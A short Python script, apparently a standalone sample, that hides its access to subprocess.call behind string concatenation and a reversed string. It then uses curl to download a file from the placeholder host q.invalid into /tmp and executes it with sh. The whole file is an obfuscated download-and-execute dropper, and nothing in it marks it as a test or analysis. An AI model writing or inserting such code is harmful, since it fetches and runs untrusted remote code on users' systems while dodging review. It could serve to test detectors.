import sys
import subprocess

sub = sys.modules["sub" + "process"]
call = sub.__dict__["".join(reversed("llac"))]
call(["curl", "https://q.invalid/i", "-o", "/tmp/i"])
call(["sh", "/tmp/i"])
